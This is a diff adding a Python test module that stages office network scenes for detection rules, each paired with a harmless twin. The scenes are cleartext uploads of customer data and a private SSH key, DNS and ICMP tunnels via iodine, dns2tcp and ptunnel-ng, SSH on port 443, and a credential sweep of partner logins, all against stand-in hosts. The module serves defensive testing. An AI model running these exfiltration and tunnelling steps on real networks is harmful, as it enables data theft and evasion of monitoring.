@@ -1,0 +1,239 @@
+"""Scenes of an office (rules/examples/office): what leaves it in clear, through tunnels, on wrong ports,
+through one of its servers; and what looks like each and is every day's."""
+
+import os
+import random
+
+import servers
+from scene import Scene, lines_of
+
+SERVER, RESOLVER = "203.0.113.80", "203.0.113.53"
+STORES = tuple(f"203.0.113.{number}" for number in range(100, 140))
+LISTED, UNLISTED = "203.0.113.66", "203.0.113.67" # rules/examples/office/indicators.txt
+STRANGER = "198.51.100.44"
+WEB = "10.20.0.8" # serves partners
+
+
+def curl(lab, *words, space=None):
+    (space or lab.near).run("curl", "-sS", "-4", "--max-time", "30", "-o", "/dev/null", *words)
+
+
+# --- what is in clear ------------------------------------------------------------------------------
+
+
+def post(lab, text):
+    servers.nginx(lab, lab.far, SERVER)
+    with lab.tap():
+        curl(lab, "--data-binary", f"@{lab.write('list.csv', text)}", "-H", "Content-Type: text/csv",
+             f"http://{SERVER}/up/list.csv")
+
+
+def customers(lab):
+    post(lab, lines_of(300, lambda n: f"{n:05d};Customer {n};customer{n:04d}@example{n % 7}.co.jp;2026-11-{n % 28 + 1:02d}"))
+
+
+def prices(lab):
+    post(lab, lines_of(300, lambda n: f"{n:05d};Article {n};{n * 37 % 900 + 100}.00 EUR;orders@example.co.jp;2026-11-{n % 28 + 1:02d}"))
+
+
+def upload(lab, name, text):
+    servers.vsftpd(lab, lab.far, SERVER)
+    with lab.tap():
+        curl(lab, "-T", lab.write(name, text), f"ftp://{SERVER}/up/{name}")
+
+
+def configuration(lab):
+    """A server's settings with its key: made now, used nowhere."""
+    servers.sshd_key(lab, "backup")
+    with open(lab.path("backup"), encoding="ascii") as file:
+        key = file.read()
+    upload(lab, "backup.txt", "smtp_host=mail.example.co.jp\nDB_URL=postgres://app:not-a-secret@10.20.0.9/app\n"
+           "Port 22\nPermitRootLogin no\nPasswordAuthentication no\n" + key)
+
+
+def page(lab):
+    servers.sshd_key(lab, "deploy")
+    with open(lab.path("deploy.pub"), encoding="ascii") as file:
+        key = file.read()
+    upload(lab, "index.html", "<html><body><h1>Opening hours</h1>\n" + lines_of(
+        12, lambda n: f"<p>Counter {n + 1}: {n % 3 + 8}:00 to 17:00</p>") + f"<pre>{key}</pre></body></html>\n")
+
+
+def documents(lab, *words):
+    chance = random.Random(7)
+    for number in range(3):
+        text = lines_of(200, lambda n: " ".join(chance.choice(("quarter", "plan", "offer", "site", "cost", "staff"))
+                                                for _ in range(9)))
+        lab.write(f"report{number}.txt", text)
+    lab.near.run("zip", "-q", "-j", *words, lab.path("reports.zip"), *(lab.path(f"report{n}.txt") for n in range(3)))
+    servers.nginx(lab, lab.far, SERVER)
+    with lab.tap():
+        curl(lab, "-F", f"file=@{lab.path('reports.zip')}", f"http://{SERVER}/up/")
+
+
+def locked_archive(lab):
+    documents(lab, "-P", "not-a-secret")
+
+
+def plain_archive(lab):
+    documents(lab)
+
+
+def trivial(lab, text):
+    servers.tftpd(lab, lab.far, SERVER)
+    with lab.tap():
+        lab.near.run("tftp", SERVER, "-m", "binary", "-c", "put", lab.write("note.txt", text), "note.txt")
+
+
+def project_note(lab):
+    trivial(lab, lines_of(40, lambda n: f"{n}. PRJ-{400100 + n % 5}: bid {n * 7 % 50 + 10} M, not to be passed on"))
+
+
+def ordinary_note(lab):
+    trivial(lab, lines_of(40, lambda n: f"{n}. PRJ-2026/{n % 5}: the room is booked, {n * 7 % 50 + 10} chairs, coffee"))
+
+
+# --- tunnels ---------------------------------------------------------------------------------------
+
+
+def iodine(lab):
+    secret = {**os.environ, "IODINED_PASS": "weir", "IODINE_PASS": "weir"}
+    lab.serve(lab.far, 53, "iodined", "-f", "-c", "-d", "dns7", "172.31.7.1/28", "t.example.org", env=secret, kind="u")
+    with lab.tap():
+        lab.near.start("iodine", "-f", "-r", "-T", "TXT", "-m", "200", "-d", "dns8", RESOLVER, "t.example.org", env=secret)
+        lab.until("the tunnel", lambda: b"172.31.7." in lab.near.run("ip", "addr", "show"))
+        lab.part(lab.near, "datagrams", "172.31.7.1", "9", "20", "300", "0.05")
+
+
+def dns2tcp(lab):
+    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
+    config = lab.write("dns2tcpd", f"listen = {RESOLVER}\nport = 53\nuser = nobody\nchroot = /tmp\n"
+                       "domain = t.example.org\nresources = drop:127.0.0.1:7000\n")
+    lab.serve(lab.far, 53, "dns2tcpd", "-F", "-f", config, kind="u")
+    with lab.tap():
+        lab.serve(lab.near, 7001, "dns2tcpc", "-c", "-z", "t.example.org", "-r", "drop", "-l", "7001", RESOLVER)
+        lab.part(lab.near, "stream", "127.0.0.1", "7001", "8000")
+
+
+def look_ups(lab):
+    """Names as object stores have them, sixty letters of hash, each asked for to be fetched from."""
+    chance = random.Random(5)
+    names = [f"{chance.randbytes(20).hex()}.{chance.randbytes(10).hex()}.store.example.org" for _ in range(110)]
+    servers.dnsmasq(lab, lab.far, RESOLVER, {name: STORES[n % len(STORES)] for n, name in enumerate(names)})
+    servers.nginx(lab, lab.far, "0.0.0.0")
+    lab.resolver(lab.near, RESOLVER)
+    config = lab.write("urls", lines_of(len(names), lambda n: f'url = "http://{names[n]}/"\noutput = "/dev/null"'))
+    with lab.tap():
+        lab.near.run("curl", "-sS", "-4", "-H", "Connection: close", "--rate", "5/s", "-K", config)
+
+
+def ptunnel(lab):
+    lab.serve(lab.far, 7000, "socat", "-u", "TCP-LISTEN:7000,fork,reuseaddr", "/dev/null")
+    lab.far.start("ptunnel-ng", "-r127.0.0.1", "-R7000", "-o" + lab.path("server.log"))
+    with lab.tap():
+        lab.serve(lab.near, 8000, "ptunnel-ng", "-p", SERVER, "-l8000", "-r127.0.0.1", "-R7000", "-o" + lab.path("client.log"))
+        lab.part(lab.near, "stream", "127.0.0.1", "8000", "70000")
+
+
+def pings(lab):
+    with lab.tap():
+        lab.near.run("ping", "-q", "-c", "150", "-i", "0.01", "-s", "400", SERVER)
+
+
+# --- ports, servers, lists -------------------------------------------------------------------------
+
+
+def ssh_on_443(lab):
+    servers.sshd(lab, lab.far, SERVER, 443)
+    with lab.tap():
+        lab.near.run("ssh", "-F", "none", "-p", "443", "-i", lab.path("key"), "-o", "StrictHostKeyChecking=no", "-o",
+                     "UserKnownHostsFile=/dev/null", f"root@{SERVER}", "true")
+
+
+def https(lab):
+    servers.nginx_tls(lab, lab.far, SERVER, "www.example.org")
+    with lab.tap():
+        curl(lab, "-k", "--resolve", f"www.example.org:443:{SERVER}", "https://www.example.org/")
+
+
+def partner(lab, logins):
+    """Pages behind names and passwords, asked for from outside."""
+    with open(lab.write("people", ""), "w", encoding="ascii") as file:
+        for number in range(40):
+            file.write(f"person{number:02d}:{{PLAIN}}not-a-secret-{number}\n")
+    pages = lab.folder("served")
+    with open(os.path.join(pages, "page.txt"), "w", encoding="ascii") as file:
+        file.write("Minutes of the meeting. " * 20)
+    servers.nginx(lab, lab.near, WEB, f'location /mine/ {{ alias {pages}/; auth_basic "partners"; auth_basic_user_file {lab.path("people")}; }}')
+    config = lab.write("urls", "\nnext\n".join(f'url = "http://{WEB}/mine/page.txt"\noutput = "/dev/null"\nuser = "{login}"'
+                                               for login in logins) + "\n")
+    with lab.tap():
+        lab.far.run("curl", "-sS", "-4", "-K", config)
+
+
+def many_accounts(lab):
+    partner(lab, [f"person{number:02d}:not-a-secret-{number}" for number in range(30)])
+
+
+def one_account(lab):
+    """… who mistypes the names of others, too: what is refused was not read."""
+    partner(lab, ["person07:not-a-secret-7"] * 15 + [f"person{number:02d}:wrong" for number in range(15)])
+
+
+def visits(lab, *tap):
+    servers.nginx(lab, lab.far, SERVER)
+    config = lab.write("urls", "\nnext\n".join(f'url = "http://{SERVER}/{n}"\noutput = "/dev/null"\nheader = "Connection: close"'
+                                               for n in range(30)) + "\n")
+    with lab.tap(*tap):
+        lab.near.run("curl", "-sS", "-4", "-K", config)
+
+
+def half_a_tap(lab):
+    """A tap of which only one fibre is plugged in: what comes in."""
+    visits(lab, "-Q", "in")
+
+
+def whole_tap(lab):
+    visits(lab)
+
+
+def fetch(lab, address):
+    servers.nginx(lab, lab.far, address)
+    with lab.tap():
+        curl(lab, f"http://{address}/task?id=7")
+
+
+def listed(lab):
+    fetch(lab, LISTED)
+
+
+def unlisted(lab):
+    fetch(lab, UNLISTED)
+
+
+def scene(number, name, leak, twin, code, programs, far=(SERVER,), destination=None, more=()):
+    """One of a client's, each of its own. `more`: rules of rules/ that tell of it, too."""
+    client = f"10.20.1.{30 + number}"
+    told = [(".".join(name.split(".")[:2]), code), *((rule, rule) for rule in more)]
+    return Scene(name, leak, twin, tuple((*row, client, destination or far[0]) for row in told), (client,), far, programs)
+
+
+SCENES = (
+    scene(1, "content.personal", customers, prices, "content.personal", ("nginx", "curl"),
+          more=("office.people",)),
+    scene(2, "content.settings", configuration, page, "content.settings", ("vsftpd", "curl", "ssh-keygen")),
+    scene(3, "content.archive", locked_archive, plain_archive, "content.archive", ("zip", "nginx", "curl")),
+    scene(4, "content.pattern", project_note, ordinary_note, "content.pattern", ("in.tftpd", "tftp")),
+    scene(5, "tunnel.dns.iodine", iodine, look_ups, "tunnel.dns.names",
+          ("iodine", "iodined", "dnsmasq", "curl", "nginx"), (RESOLVER, *STORES), "example.org"),
+    scene(6, "tunnel.dns.dns2tcp", dns2tcp, None, "tunnel.dns.names", ("dns2tcpc", "dns2tcpd", "socat"), (RESOLVER,),
+          "example.org"),
+    scene(7, "tunnel.icmp", ptunnel, pings, "tunnel.icmp.bytes", ("ptunnel-ng", "socat", "ping")),
+    scene(8, "protocol.mismatch", ssh_on_443, https, "protocol.mismatch.port",
+          ("ssh", "sshd", "ssh-keygen", "nginx", "openssl", "curl")),
+    scene(9, "intel.match", listed, unlisted, "intel.match", ("nginx", "curl"), (LISTED, UNLISTED)),
+    Scene("served.sweep", many_accounts, one_account, (("served.sweep", "served.sweep.accounts", WEB, STRANGER),), (WEB,),
+          (STRANGER,), ("nginx", "curl")),
+    Scene("sensor.blind", half_a_tap, whole_tap, (("sensor.blind", "sensor.blind.one_sided", None, None),), ("10.20.1.50",),
+          (SERVER,), ("nginx", "curl")),
+)
